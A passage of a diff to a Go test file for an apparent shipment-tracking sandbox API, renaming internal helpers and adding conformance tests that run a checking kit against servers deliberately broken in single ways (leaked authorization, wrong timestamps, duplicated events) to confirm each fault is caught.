 // answerHeld reports whether t holds something under the Idempotency-Key key.
@@ -9280,8 +9287,8 @@ func answersHeld(t *tenant) int {
 	return t.answers.len()
 }
 
-// storedAnswerBytes is what every tenant's stored answers hold, as the book counts them.
-func storedAnswerBytes(e *env) int64 { return e.srv.book.answerTotal.Load() }
+// storedAnswerBytes is what every tenant's stored answers hold, as the registry counts them.
+func storedAnswerBytes(e *env) int64 { return e.srv.registry.answerTotal.Load() }
 
 // FuzzSandboxBody: any body of POST /v1/test_helpers/sandboxes answers 201, or 400, 409 or
 // 422 as a problem the document allows, never a 500 or a panic; a refused body makes
@@ -9299,7 +9306,7 @@ func FuzzSandboxBody(f *testing.F) {
 	n := 0
 	f.Fuzz(func(t *testing.T, body string) {
 		n++
-		before := e.srv.book.count(e.clock.now())
+		before := e.srv.registry.count(e.clock.now())
 		r := newBodyRequest(http.MethodPost, "/v1/test_helpers/sandboxes", "sk_test_sync_all", body, "Content-Type", "application/json", "Idempotency-Key", "fuzz-"+strconv.Itoa(n))
 		rep := e.do(t, r) // checks the answer against the document
 		switch rep.status {
@@ -9311,7 +9318,7 @@ func FuzzSandboxBody(f *testing.F) {
 			e.do(t, newRequest(http.MethodGet, "/v1/orders", sb.Keys[0].Key))
 			e.do(t, newRequest(http.MethodDelete, "/v1/test_helpers/sandboxes/"+sb.Account, sb.Keys[0].Key))
 		case http.StatusBadRequest, http.StatusConflict, http.StatusRequestEntityTooLarge, http.StatusUnprocessableEntity:
-			if after := e.srv.book.count(e.clock.now()); after != before {
+			if after := e.srv.registry.count(e.clock.now()); after != before {
 				t.Fatalf("a refused body (%s) made a sandbox", rep)
 			}
 		default:
@@ -9367,7 +9374,7 @@ func BenchmarkMakeSandbox(b *testing.B) {
 			b.ReportAllocs()
 			for b.Loop() {
 				n++
-				clear(e.srv.book.shared)
+				clear(e.srv.registry.shared)
 				w := &benchWriter{h: http.Header{}}
 				e.h.ServeHTTP(w, newBodyRequest(http.MethodPost, "/v1/test_helpers/sandboxes", tt.key, tt.body, "Idempotency-Key", strconv.Itoa(n)))
 				if w.status != http.StatusCreated {
@@ -9381,7 +9388,7 @@ func BenchmarkMakeSandbox(b *testing.B) {
 			e := benchEnv(b, 0)
 			before := heapAfterGC()
 			for i := range maxSandboxes {
-				clear(e.srv.book.shared)
+				clear(e.srv.registry.shared)
 				w := &benchWriter{h: http.Header{}}
 				e.h.ServeHTTP(w, newBodyRequest(http.MethodPost, "/v1/test_helpers/sandboxes", "sk_test_sync_all", `{}`, "Idempotency-Key", strconv.Itoa(i)))
 				if w.status != http.StatusCreated {
@@ -9394,7 +9401,7 @@ func BenchmarkMakeSandbox(b *testing.B) {
 	})
 }
 
-// ===== auth.go: A booking, a shipment created in a sandbox =====
+// ===== tracking.go: A booking, a shipment created in a sandbox; main.go: its write =====
 
 // book posts body to POST /v1/test_helpers/shipments with key under the Idempotency-Key
 // idem ("" for none).
@@ -9411,7 +9418,7 @@ func (e *env) book(t testing.TB, key, body, idem string, headerPairs ...string) 
 // env's clock.
 func (e *env) syncCopy(t testing.TB, idem string) string {
 	t.Helper()
-	rep, sb := e.makeSandbox(t, "sk_test_sync_all", `{}`, idem)
+	rep, sb := e.postSandbox(t, "sk_test_sync_all", `{}`, idem)
 	if rep.status != http.StatusCreated {
 		t.Fatalf("a copy of acct_sync: %s", rep)
 	}
@@ -9604,7 +9611,7 @@ func TestBookingRefusals(t *testing.T) {
 	if rep.header.Get("Allow") != "POST" {
 		t.Errorf("Allow: %q, want POST", rep.header.Get("Allow"))
 	}
-	_, scoped := e.makeSandbox(t, "sk_test_sync_all", `{"keys":[{"scopes":[]}]}`, "no-scopes")
+	_, scoped := e.postSandbox(t, "sk_test_sync_all", `{"keys":[{"scopes":[]}]}`, "no-scopes")
 	if rep := e.book(t, scoped.Keys[0].Key, `{"reference":"R","order_id":"ord_sync_0005"}`, "k"); rep.status != 201 {
 		t.Errorf("a key without scopes cannot book in its sandbox: %s", rep)
 	}
@@ -9624,9 +9631,9 @@ func TestBookingAtTheBound(t *testing.T) {
 	}
 	b.WriteString(`],"orders":[]}`)
 	e := newEnv(t, envOptions{rate: -1, step: -1, data: []byte(b.String())})
-	_, full := e.makeSandbox(t, "sk_test_full", `{}`, "full")
+	_, full := e.postSandbox(t, "sk_test_full", `{}`, "full")
 	wantProblem(t, e.book(t, full.Keys[0].Key, `{"reference":"R"}`, "one-more"), 422, "capability_unavailable", "")
-	_, fewer := e.makeSandbox(t, "sk_test_full", `{"shipments":[{"id":"s1","reference":"r"}]}`, "fewer")
+	_, fewer := e.postSandbox(t, "sk_test_full", `{"shipments":[{"id":"s1","reference":"r"}]}`, "fewer")
 	if rep := e.book(t, fewer.Keys[0].Key, `{"reference":"R"}`, "one-more"); rep.status != 201 {
 		t.Errorf("a sandbox of one shipment refuses a second: %s", rep)
 	}
@@ -9636,7 +9643,7 @@ func TestBookingAtTheBound(t *testing.T) {
 func TestBookingSeededOrders(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOptions{rate: -1, step: -1, seed: 50})
-	_, sb := e.makeSandbox(t, "sk_test_sandbox_all", `{}`, "seeded")
+	_, sb := e.postSandbox(t, "sk_test_sandbox_all", `{}`, "seeded")
 	key := sb.Keys[0].Key
 	if rep := e.book(t, key, `{"id":"shp_s","reference":"R","order_id":"ord_seed_0000007"}`, "b"); rep.status != 201 {
 		t.Fatalf("booking a seeded order: %s", rep)
@@ -9736,15 +9743,15 @@ func TestBlindRetry(t *testing.T) {
 		t.Errorf("the finding names %s, the order is linked to %s", *f.Data[0].ID, got)
 	}
 	// Another API key of the sandbox sending it again is another client: no finding.
-	_, two := e.makeSandbox(t, "sk_test_sync_all", `{"keys":[{"scopes":[]},{"scopes":[]}]}`, "two-keys")
+	_, two := e.postSandbox(t, "sk_test_sync_all", `{"keys":[{"scopes":[]},{"scopes":[]}]}`, "two-keys")
 	e.book(t, two.Keys[0].Key, body, "x", "Prefer", "code=502")
 	e.book(t, two.Keys[1].Key, body, "y")
 	if got := e.findingsOf(t, two.Keys[0].Key, "").summary(); got != "" {
 		t.Errorf("another API key's request is found: %s", got)
 	}
 	// Making a sandbox is a write too.
-	e.makeSandbox(t, "sk_test_sync_all", `{"template":"acct_sync"}`, "s-1", "Prefer", "code=502, run=\"blind\"")
-	e.makeSandbox(t, "sk_test_sync_all", `{"template":"acct_sync"}`, "s-2", "Prefer", "run=\"blind\"")
+	e.postSandbox(t, "sk_test_sync_all", `{"template":"acct_sync"}`, "s-1", "Prefer", "code=502, run=\"blind\"")
+	e.postSandbox(t, "sk_test_sync_all", `{"template":"acct_sync"}`, "s-2", "Prefer", "run=\"blind\"")
 	if got := e.findingsOf(t, "sk_test_sync_all", "run=blind").summary(); !regexp.MustCompile(`^blind_retry - \[\d+ \d+\]$`).MatchString(got) {
 		t.Errorf("a sandbox made twice: %q", got)
 	}
@@ -9873,7 +9880,7 @@ func TestBookingMakesANumberAmbiguous(t *testing.T) {
 }
 
 // TestSandboxesWithinTheirBytes: the sandboxes' data, the records a sandbox was sent
-// included, stays within the book's bytes: past them a new sandbox, or a booking that grows
+// included, stays within the registry's bytes: past them a new sandbox, or a booking that grows
 // one, forgets the least recently used other first; a booking that would take one sandbox
 // alone past them is refused.
 func TestSandboxesWithinTheirBytes(t *testing.T) {
@@ -9884,16 +9891,16 @@ func TestSandboxesWithinTheirBytes(t *testing.T) {
 		orders = append(orders, fmt.Sprintf(`{"id":"ord_%d","merchant_reference":"R-%d","platform":"ebay","status":"unfulfilled","created_at":"start-%dm"}`, i, i, i+1))
 	}
 	body := `{"orders":[` + strings.Join(orders, ",") + `]}`
-	book := e.srv.book
+	book := e.srv.registry
 	setMax := func(n int64) { book.mu.Lock(); book.maxBytes = n; book.mu.Unlock() }
-	_, a := e.makeSandbox(t, "sk_test_sandbox_all", body, "a")
+	_, a := e.postSandbox(t, "sk_test_sandbox_all", body, "a")
 	one := sandboxHoldings(e).data
 	if d := sandboxTenant(e, a.Account).current(); !d.source.own || one < d.orders.bytes()+d.source.recs.bytes() {
 		t.Fatalf("a sandbox of records counts %d bytes, its orders and their records %d and %d: its records are not counted", one, d.orders.bytes(), d.source.recs.bytes())
 	}
 	setMax(2*one + one/2)
-	_, b := e.makeSandbox(t, "sk_test_sandbox_all", body, "b")
-	_, c := e.makeSandbox(t, "sk_test_sandbox_all", body, "c") // a, used least recently, goes
+	_, b := e.postSandbox(t, "sk_test_sandbox_all", body, "b")
+	_, c := e.postSandbox(t, "sk_test_sandbox_all", body, "c") // a, used least recently, goes
 	wantProblem(t, e.get(t, "/v1/orders/ord_1", a.Keys[0].Key), 401, "invalid_api_key", "")
 	setMax(sandboxHoldings(e).data + 1) // the next booking grows c past the bound: b goes
 	if rep := e.book(t, c.Keys[0].Key, `{"reference":"R","order_id":"ord_1"}`, "grow"); rep.status != 201 {
@@ -9930,13 +9937,13 @@ func TestDomainAdapterProfile(t *testing.T) {
 		{`{"profile":"bogus","foo":1}`, "invalid_parameter", "profile"},
 		{`{"foo":1,"profile":"bogus"}`, "unknown_parameter", "foo"},
 	} {
-		rep, _ := e.makeSandbox(t, "sk_test_sandbox_all", tt.body, fmt.Sprintf("refused-%x", sha256.Sum256([]byte(tt.body))))
+		rep, _ := e.postSandbox(t, "sk_test_sandbox_all", tt.body, fmt.Sprintf("refused-%x", sha256.Sum256([]byte(tt.body))))
 		wantProblem(t, rep, 422, tt.code, tt.param)
 	}
-	if _, plain := e.makeSandbox(t, "sk_test_sandbox_all", `{}`, "plain"); plain.Profile != "sandbox" {
+	if _, plain := e.postSandbox(t, "sk_test_sandbox_all", `{}`, "plain"); plain.Profile != "sandbox" {
 		t.Errorf("a sandbox made without a profile answers profile %q, want sandbox", plain.Profile)
 	}
-	rep, sb := e.makeSandbox(t, "sk_test_sandbox_all", `{"template":"acct_sandbox","profile":"domain_adapter"}`, "adapter")
+	rep, sb := e.postSandbox(t, "sk_test_sandbox_all", `{"template":"acct_sandbox","profile":"domain_adapter"}`, "adapter")
 	if rep.status != 201 || sb.Profile != "domain_adapter" {
 		t.Fatalf("a domain adapter's copy of acct_sandbox: %s", rep)
 	}
@@ -9959,7 +9966,7 @@ func TestDomainAdapterProfile(t *testing.T) {
 	// The default profile answers the same number 404, and finds it.
 	wantProblem(t, e.get(t, "/v1/tracking/SBX2000000000", plainKey(t, e)), 404, "not_found", "")
 	// Bookings: from an order, refused first; without one, written, and a third holder counted.
-	_, sync := e.makeSandbox(t, "sk_test_sync_all", `{"profile":"domain_adapter"}`, "adapter-sync")
+	_, sync := e.postSandbox(t, "sk_test_sync_all", `{"profile":"domain_adapter"}`, "adapter-sync")
 	for _, order := range []string{"ord_sync_0003", "ord_nope"} {
 		wantProblem(t, e.book(t, sync.Keys[0].Key, `{"reference":"R","order_id":"`+order+`"}`, "link-"+order), 422, "capability_unavailable", "")
 	}
@@ -9977,7 +9984,7 @@ func TestDomainAdapterProfile(t *testing.T) {
 // plainKey is the key of a copy of acct_sandbox of the default profile.
 func plainKey(t *testing.T, e *env) string {
 	t.Helper()
-	_, sb := e.makeSandbox(t, "sk_test_sandbox_all", `{"template":"acct_sandbox"}`, "plain-copy")
+	_, sb := e.postSandbox(t, "sk_test_sandbox_all", `{"template":"acct_sandbox"}`, "plain-copy")
 	return sb.Keys[0].Key
 }
 
@@ -9988,7 +9995,7 @@ func plainKey(t *testing.T, e *env) string {
 func TestBookingsRacingReads(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOptions{rate: -1, step: -1, seed: 200})
-	_, sb := e.makeSandbox(t, "sk_test_sandbox_all", `{}`, "race")
+	_, sb := e.postSandbox(t, "sk_test_sandbox_all", `{}`, "race")
 	key, tenant := sb.Keys[0].Key, sandboxTenant(e, sb.Account)
 	at := []string{"Prefer", `clock="start+1h"`}
 	const writers, each = 4, 15
@@ -11442,7 +11449,7 @@ func FuzzParseInstant(f *testing.F) {
 	})
 }
 
-// ===== Conformance: the kit against servers right and broken =====
+// ===== Conformance: the kit against servers right, broken and hostile =====
 
 // kitReport is a report of the kit as its JSON writes it: the tests' own copy, decoded
 // strictly.
@@ -11468,12 +11475,12 @@ type kitReport struct {
 		} `json:"evidence"`
 	} `json:"rules"`
 	Summary struct {
-		Total, Passed, Failed, Skipped, Expected, Evaluated, Requests, Retried int
-		FailedMust                                                             int `json:"failed_must"`
+		Total, Passed, Failed, Skipped, Expected, Stale, Evaluated, Requests, Retried int
+		FailedMust                                                                    int `json:"failed_must"`
 	} `json:"summary"`
 }
 
-// results is each rule's result, as "id result" in the report's order.
+// results are the ids of the rules of this result, in the report's order.
 func (r kitReport) results(result string) []string {
 	var ids []string
 	for _, rule := range r.Rules {
@@ -11482,6 +11489,16 @@ func (r kitReport) results(result string) []string {
 		}
 	}
 	return ids
+}
+
+// reason is the reason the report gives rule id, "" for none.
+func (r kitReport) reason(id string) string {
+	for _, rule := range r.Rules {
+		if rule.ID == id && rule.Reason != nil {
+			return *rule.Reason
+		}
+	}
+	return ""
 }
 
 // kitRun runs the kit with args as go run . check runs it, env its environment, and returns
@@ -11559,143 +11576,384 @@ func rewriteJSON(a *brokenAnswer, edit func(v any) any) {
 	a.body, _ = json.Marshal(edit(v))
 }
 
+// rewriteQuery replaces the request's query with what edit makes of it.
+func rewriteQuery(r *http.Request, edit func(q url.Values)) {
+	q := r.URL.Query()
+	edit(q)
+	r.URL.RawQuery = q.Encode()
+	r.RequestURI = r.URL.RequestURI()
+}
+
+// rewritePath sends the request to another path.
+func rewritePath(r *http.Request, path string) {
+	r.URL.Path, r.URL.RawPath = path, ""
+	r.RequestURI = r.URL.RequestURI()
+}
+
 // isOrders reports whether r asks for a page of orders.
 func isOrders(r *http.Request) bool { return r.Method == http.MethodGet && r.URL.Path == "/v1/orders" }
+
+// isOrder reports whether r asks for one order.
+func isOrder(r *http.Request) bool {
+	return r.Method == http.MethodGet && strings.HasPrefix(r.URL.Path, "/v1/orders/")
+}
 
 // isView reports whether r asks for a tracking view.
 func isView(r *http.Request) bool {
 	return r.Method == http.MethodGet && (strings.HasPrefix(r.URL.Path, "/v1/tracking/") || strings.HasSuffix(r.URL.Path, "/tracking"))
 }
 
-// TestConformanceCatchesBrokenServers: the kit against the sandbox, then against the
-// sandbox broken in one way at a time: each break is caught by its rule, and only by the
-// rules that depend on it (a kit that passes everything proves nothing).
-func TestConformanceCatchesBrokenServers(t *testing.T) {
-	t.Parallel()
-	issued := sync.Map{}     // the cursors the server issued (a break tells them from malformed ones)
-	var sandboxKeys sync.Map // the keys of the sandboxes made (a break reads with them)
-	var lastOfPage sync.Map
-	leak := &struct{ h http.Handler }{} // the server of the break that shows another account's order
-	for _, tt := range []struct {
-		name   string
-		broken brokenServer
-		caught []string
-	}{
-		{"nothing broken", brokenServer{}, nil},
-		{"a request without a key let through", brokenServer{request: func(r *http.Request) {
+// isMaking reports whether r asks for a sandbox.
+func isMaking(r *http.Request) bool {
+	return r.Method == http.MethodPost && r.URL.Path == "/v1/test_helpers/sandboxes"
+}
+
+// eachView rewrites the events of every 200 tracking view.
+func eachView(edit func(view map[string]any, events []any) []any) func(r *http.Request, a *brokenAnswer) {
+	return func(r *http.Request, a *brokenAnswer) {
+		if isView(r) && a.status == 200 {
+			rewriteJSON(a, func(v any) any {
+				view := v.(map[string]any)
+				view["events"] = edit(view, view["events"].([]any))
+				return view
+			})
+		}
+	}
+}
+
+// madeKeys are the keys of the sandboxes a broken server made, in the order its 201s gave
+// them: a break that lets one key through as another reads them.
+type madeKeys struct {
+	mu   sync.Mutex
+	keys []string
+}
+
+func (m *madeKeys) note(r *http.Request, a *brokenAnswer) {
+	if isMaking(r) && a.status == 201 {
+		var made struct{ Keys []struct{ Key string } }
+		json.Unmarshal(a.body, &made)
+		m.mu.Lock()
+		for _, k := range made.Keys {
+			m.keys = append(m.keys, k.Key)
+		}
+		m.mu.Unlock()
+	}
+}
+
+// at is the key the kit's sandbox gave at i (0: the main key, 3: the expired one, 4: the
+// revoked one), or "".
+func (m *madeKeys) at(i int) string {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	if i < len(m.keys) {
+		return m.keys[i]
+	}
+	return ""
+}
+
+// letThrough is a break that serves requests with the key of the kit's main sandbox when
+// they carry the key who names (an unknown key when who is -1), on the tracking operations
+// only.
+func letThrough(who int) func(e *env) brokenServer {
+	return func(e *env) brokenServer {
+		made := &madeKeys{}
+		return brokenServer{answer: made.note, request: func(r *http.Request) {
+			sent := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
+			if isView(r) && sent != "" && (who < 0 && sent == unknownKey || who >= 0 && sent == made.at(who)) {
+				r.Header.Set("Authorization", "Bearer "+made.at(0))
+			}
+		}}
+	}
+}
+
+// problemAnswer makes a an answer of the problem status with code.
+func problemAnswer(a *brokenAnswer, status int, code string) {
+	a.status = status
+	a.header = http.Header{"Content-Type": {"application/problem+json"}, "Request-Id": a.header["Request-Id"], "Cache-Control": {"no-store"}}
+	a.body = fmt.Appendf(nil, `{"type":"about:blank","title":%q,"status":%d,"detail":"broken","code":%q,"request_id":"req_broken"}`, http.StatusText(status), status, code)
+}
+
+// kitBreak is a server broken in one way, and the rules of the catalogue that catch it (its
+// rule, and the rules that depend on what it breaks).
+type kitBreak struct {
+	name   string
+	broken func(e *env) brokenServer
+	caught []string
+	world  string // "" the kit's own; "discovered" (no sandbox made; the key of acct_other, whose order is linked)
+	full   bool   // -mode full, against a sandbox whose limit is 100 a second
+	rate   int    // with full: the sandbox's -rate (0 here: 100)
+}
+
+// kitBreaks are the broken servers: at least one for every rule of the catalogue
+// (TestEveryRuleIsCaughtFailing), the twenty that once passed among them.
+var kitBreaks = []kitBreak{
+	{name: "nothing broken", broken: func(*env) brokenServer { return brokenServer{} }},
+	{name: "nothing broken, discovered", broken: func(*env) brokenServer { return brokenServer{} }, world: "discovered"},
+	{name: "nothing broken, full", broken: func(*env) brokenServer { return brokenServer{} }, full: true},
+	{name: "a request without a key let through", caught: []string{"auth.missing_key"}, broken: func(*env) brokenServer {
+		return brokenServer{request: func(r *http.Request) {
 			if r.Header.Get("Authorization") == "" {
 				r.Header.Set("Authorization", "Bearer sk_test_sandbox_all")
 			}
-		}}, []string{"auth.missing_key"}},
-		{"403 answered 404", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+		}}
+	}},
+	{name: "an unknown key served on the tracking operations", caught: []string{"auth.invalid_key"}, broken: letThrough(-1)},
+	{name: "an expired key served on the tracking operations", caught: []string{"auth.expired_key"}, broken: letThrough(3)},
+	{name: "a revoked key served on the tracking operations", caught: []string{"auth.revoked_key"}, broken: letThrough(4)},
+	{name: "403 answered 404", caught: []string{"auth.scope_orders", "auth.scope_tracking"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
 			if a.status == 403 {
-				a.status = 404
-				a.header.Del("WWW-Authenticate")
-				rewriteJSON(a, func(v any) any {
-					p := v.(map[string]any)
-					p["status"], p["title"], p["code"] = 404, "Not Found", "not_found"
-					return p
-				})
+				problemAnswer(a, 404, "not_found")
 			}
-		}}, []string{"auth.scope_orders", "auth.scope_tracking"}},
-		{"UTC written +00:00", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+		}}
+	}},
+	{name: "another account's order shown", caught: []string{"auth.other_account"}, broken: func(e *env) brokenServer {
+		made := &madeKeys{}
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			made.note(r, a)
+			if isOrder(r) && a.status == 404 && made.at(0) != "" {
+				again := httptest.NewRecorder()
+				e.h.ServeHTTP(again, newRequest(http.MethodGet, r.URL.Path, made.at(0)))
+				if again.Code == 200 {
+					a.status, a.header, a.body = 200, again.Header(), again.Body.Bytes()
+				}
+			}
+		}}
+	}},
+	{name: "UTC written +00:00", caught: []string{"orders.fields", "tracking.utc", "tracking.utc_across_dst"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
 			a.body = regexp.MustCompile(`(T[0-9]{2}:[0-9]{2}:[0-9]{2}(\.[0-9]+)?)Z"`).ReplaceAll(a.body, []byte(`$1+00:00"`))
-		}}, []string{"orders.fields", "tracking.utc"}},
-		{"an event shown twice", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
-			if isView(r) && a.status == 200 {
-				rewriteJSON(a, func(v any) any {
-					view := v.(map[string]any)
-					if events := view["events"].([]any); len(events) > 0 {
-						view["events"] = append([]any{events[0]}, events...)
-					}
-					return view
-				})
+		}}
+	}},
+	{name: "a renamed member: timestamp written time", caught: []string{"tracking.dedup", "tracking.events", "tracking.exact_fields", "tracking.no_offset", "tracking.utc", "tracking.utc_across_dst", "tracking.view_fields"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if isView(r) {
+				a.body = bytes.ReplaceAll(a.body, []byte(`"timestamp":`), []byte(`"time":`))
 			}
-		}}, []string{"tracking.dedup"}},
-		{"a duplicate kept", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
-			if isView(r) && a.status == 200 && bytes.Contains(a.body, []byte(`"shp_ck_dup"`)) {
-				rewriteJSON(a, func(v any) any {
-					view := v.(map[string]any)
-					events := view["events"].([]any)
-					dup := map[string]any{"status": "in_transit", "description": "Departed facility", "timestamp": "2025-04-01T10:00:00Z", "location": "York, GB"}
-					view["events"] = append([]any{events[0], dup}, events[1:]...)
-					return view
-				})
+		}}
+	}},
+	{name: "an event shown twice", caught: []string{"tracking.dedup", "tracking.events"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: eachView(func(_ map[string]any, events []any) []any {
+			if len(events) == 0 {
+				return events
 			}
-		}}, []string{"tracking.dedup"}},
-		{"a timestamp without an offset read as UTC", brokenServer{request: func(r *http.Request) {
-			if r.URL.Path == "/v1/test_helpers/sandboxes" {
+			return append([]any{events[0]}, events...)
+		})}
+	}},
+	{name: "a duplicate kept", caught: []string{"tracking.dedup", "tracking.events"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: eachView(func(view map[string]any, events []any) []any {
+			if view["shipment_id"] != "shp_ck_dup" {
+				return events
+			}
+			dup := map[string]any{"status": "in_transit", "description": "Departed facility", "timestamp": "2025-04-01T10:00:00Z", "location": "York, GB"}
+			return append([]any{events[0], dup}, events[1:]...)
+		})}
+	}},
+	{name: "an event the kit never sent shown", caught: []string{"tracking.events"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: eachView(func(view map[string]any, events []any) []any {
+			if view["shipment_id"] != "shp_ck_dst" {
+				return events
+			}
+			return append(events, map[string]any{"status": "delivered", "description": "Signed for", "timestamp": "2025-03-31T08:15:00Z", "location": "Manchester, GB"})
+		})}
+	}},
+	{name: "descriptions cut to 18 characters", caught: []string{"tracking.events"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: eachView(func(_ map[string]any, events []any) []any {
+			for _, e := range events {
+				if d := e.(map[string]any)["description"].(string); len(d) > 18 {
+					e.(map[string]any)["description"] = d[:18]
+				}
+			}
+			return events
+		})}
+	}},
+	{name: "events of one instant reversed", caught: []string{"tracking.events_oldest_first"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: eachView(func(_ map[string]any, events []any) []any {
+			for i := 1; i < len(events); i++ {
+				if a, b := events[i-1].(map[string]any), events[i].(map[string]any); a["timestamp"] == b["timestamp"] {
+					events[i-1], events[i] = b, a
+				}
+			}
+			return events
+		})}
+	}},
+	{name: "events newest first", caught: []string{"tracking.events_oldest_first", "tracking.status", "tracking.utc_across_dst"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: eachView(func(_ map[string]any, events []any) []any { slices.Reverse(events); return events })}
+	}},
+	{name: "a timestamp without an offset read as UTC", caught: []string{"tracking.events", "tracking.no_offset"}, broken: func(*env) brokenServer {
+		return brokenServer{request: func(r *http.Request) {
+			if isMaking(r) {
 				rewriteBody(r, func(b string) string { return strings.ReplaceAll(b, `"2025-04-02T09:00:00"`, `"2025-04-02T09:00:00Z"`) })
 			}
-		}}, []string{"tracking.no_offset"}},
-		{"offsets ignored", brokenServer{request: func(r *http.Request) {
-			if r.URL.Path == "/v1/test_helpers/sandboxes" {
+		}}
+	}},
+	{name: "offsets ignored", caught: []string{"tracking.events", "tracking.utc_across_dst"}, broken: func(*env) brokenServer {
+		return brokenServer{request: func(r *http.Request) {
+			if isMaking(r) {
 				rewriteBody(r, func(b string) string {
 					return regexp.MustCompile(`(T[0-9]{2}:[0-9]{2}:[0-9]{2})[+-][0-9]{2}:[0-9]{2}"`).ReplaceAllString(b, `${1}Z"`)
 				})
 			}
-		}}, []string{"tracking.utc_across_dst"}},
-		{"a parcel number found", brokenServer{request: func(r *http.Request) {
+		}}
+	}},
+	{name: "a view whose status is always in_transit", caught: []string{"tracking.status"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: eachView(func(view map[string]any, events []any) []any {
+			view["status"] = "in_transit"
+			return events
+		})}
+	}},
+	{name: "a reference lower-cased", caught: []string{"tracking.view_fields"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: eachView(func(view map[string]any, events []any) []any {
+			view["reference"] = strings.ToLower(view["reference"].(string))
+			return events
+		})}
+	}},
+	{name: "a view with the member status written twice", caught: []string{"http.unique_members", "tracking.by_number", "tracking.status", "tracking.view_fields"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if isView(r) && a.status == 200 {
+				a.body = bytes.Replace(a.body, []byte(`"status":`), []byte(`"status":"failure","status":`), 1)
+			}
+		}}
+	}},
+	{name: "a null location", caught: []string{"tracking.view_fields"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if isView(r) {
+				a.body = bytes.ReplaceAll(a.body, []byte(`"location":""`), []byte(`"location":null`))
+			}
+		}}
+	}},
+	{name: "a status outside the vocabulary", caught: []string{"tracking.events", "tracking.status", "tracking.vocabulary"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if isView(r) {
+				a.body = bytes.ReplaceAll(a.body, []byte(`"status":"delivered"`), []byte(`"status":"DELIVERED"`))
+			}
+		}}
+	}},
+	{name: "an extra member on views", caught: []string{"tracking.exact_fields"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: eachView(func(view map[string]any, events []any) []any {
+			view["carrier"] = "royal_mail"
+			return events
+		})}
+	}},
+	{name: "tracking ids and numbers matched case-insensitively", caught: []string{"tracking.exact_lookup"}, broken: func(*env) brokenServer {
+		return brokenServer{request: func(r *http.Request) {
+			switch {
+			case strings.HasPrefix(r.URL.Path, "/v1/tracking/"):
+				rewritePath(r, "/v1/tracking/"+strings.ToUpper(strings.TrimPrefix(r.URL.Path, "/v1/tracking/")))
+			case isView(r):
+				rewritePath(r, strings.ToLower(r.URL.Path))
+			}
+		}}
+	}},
+	{name: "a parcel number found", caught: []string{"tracking.primary_number_only"}, broken: func(*env) brokenServer {
+		return brokenServer{request: func(r *http.Request) {
 			if r.URL.Path == "/v1/tracking/CK1000000005" {
-				r.URL.Path = "/v1/tracking/CK1000000004"
+				rewritePath(r, "/v1/tracking/CK1000000004")
 			}
-		}}, []string{"tracking.primary_number_only"}},
-		{"an order repeated across pages", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
-			if !isOrders(r) || a.status != 200 {
-				return
-			}
-			q := r.URL.Query()
-			cursor := q.Get("cursor")
-			q.Del("cursor")
-			rewriteJSON(a, func(v any) any {
-				page := v.(map[string]any)
-				data := page["data"].([]any)
-				if prev, ok := lastOfPage.Load(q.Encode()); ok && cursor != "" {
-					data = append([]any{prev}, data...) // the previous page's last, again
+		}}
+	}},
+	{name: "an unknown shipment served as a known one", caught: []string{"tracking.unknown"}, broken: func(*env) brokenServer {
+		return brokenServer{request: func(r *http.Request) {
+			if strings.Contains(r.URL.Path, "nowhere") || strings.Contains(r.URL.Path, "NOWHERE") {
+				if isView(r) {
+					rewritePath(r, "/v1/shipments/shp_ck_dst/tracking")
 				}
-				if len(data) > 0 {
-					lastOfPage.Store(q.Encode(), data[len(data)-1])
-				}
-				page["data"] = data
-				return page
-			})
-		}}, []string{"orders.cursor_walk"}},
-		{"a filter ignored", brokenServer{request: func(r *http.Request) {
-			if q := r.URL.Query(); isOrders(r) && !q.Has("cursor") && q.Has("status") {
-				q.Del("status")
-				r.URL.RawQuery = q.Encode()
 			}
-		}}, []string{"orders.filter_status"}},
-		{"created_from exclusive", brokenServer{request: func(r *http.Request) {
-			if q := r.URL.Query(); isOrders(r) && q.Has("created_from") {
-				at, _ := parseTimestamp(q.Get("created_from"))
-				q.Set("created_from", at.Add(time.Nanosecond).Format(time.RFC3339Nano))
-				r.URL.RawQuery = q.Encode()
+		}}
+	}},
+	{name: "a number two shipments hold answered with one of them", caught: []string{"tracking.ambiguous_number"}, broken: func(*env) brokenServer {
+		return brokenServer{request: func(r *http.Request) {
+			if r.URL.Path == "/v1/tracking/CK2000000000" {
+				rewritePath(r, "/v1/shipments/shp_ck_twin_a/tracking")
 			}
-		}}, []string{"orders.filter_created"}},
-		{"a default page of 25", brokenServer{request: func(r *http.Request) {
+		}}
+	}},
+	{name: "every lookup by number a 404", world: "discovered", caught: []string{"tracking.by_number"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if strings.HasPrefix(r.URL.Path, "/v1/tracking/") && a.status == 200 {
+				problemAnswer(a, 404, "not_found")
+			}
+		}}
+	}},
+	{name: "an order linked to a shipment that answers 404", world: "discovered", caught: []string{"orders.linked_shipment"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
